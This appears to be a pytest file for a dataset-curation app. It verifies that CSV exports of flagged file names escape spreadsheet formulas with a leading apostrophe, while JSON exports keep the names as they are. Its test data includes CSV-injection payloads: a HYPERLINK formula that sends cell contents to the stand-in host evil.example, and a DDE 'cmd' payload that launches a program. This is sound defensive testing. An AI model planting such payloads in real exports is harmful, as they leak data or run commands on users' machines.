"""Blocklist CSVs never hand a spreadsheet a formula: file names from a dataset's owners such
as `=HYPERLINK(...)` or `+cmd|' -c calc'!A0` are written as text (a leading apostrophe); the
JSON export keeps them as they are."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from audit.spreadsheet import spreadsheet_cell
from curation.models import Export
from curation.services.exports import export_create
from labels.exports import export_build
from reviewer.services.decisions import review_decision_record
from tests.reviewer.factories import item_of, make_dataset

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+cmd|' -c calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tindented.png",
    "plain/cat.jpg",
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("cat.jpg", "cat.jpg"), ("", ""), (None, ""), (0.5, "0.5")],
)  # fmt: skip
def test_spreadsheet_cell(value, cell):
    assert spreadsheet_cell(value) == cell


def test_csv_export_neutralises_formula_cells_and_json_keeps_the_names(
    settings, tmp_path, admin_user
):
    settings.MEDIA_ROOT = tmp_path / "media"
    dataset, _, images = make_dataset([0.9] * len(HOSTILE), paths=HOSTILE)
    for image in images:
        review_decision_record(
            item_id=item_of(image).pk, reviewer=admin_user, verdict="inappropriate"
        )

    export = export_build(
        export_id=export_create(dataset=dataset, format=Export.Format.CSV, queue=False).pk
    )
    with open(export.file_path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(row["path"] for row in rows) == sorted(
        path if path == "plain/cat.jpg" else "'" + path for path in HOSTILE
    )
    assert all(not row["path"].startswith(("=", "+", "-", "@", "\t")) for row in rows)
    assert {float(row["score"]) for row in rows} == {0.9}  # numbers stay numbers

    as_json = export_build(
        export_id=export_create(dataset=dataset, format=Export.Format.JSON, queue=False).pk
    )
    body = json.loads(Path(as_json.file_path).read_text(encoding="utf-8"))
    assert sorted(row["path"] for row in body["rows"]) == sorted(HOSTILE)
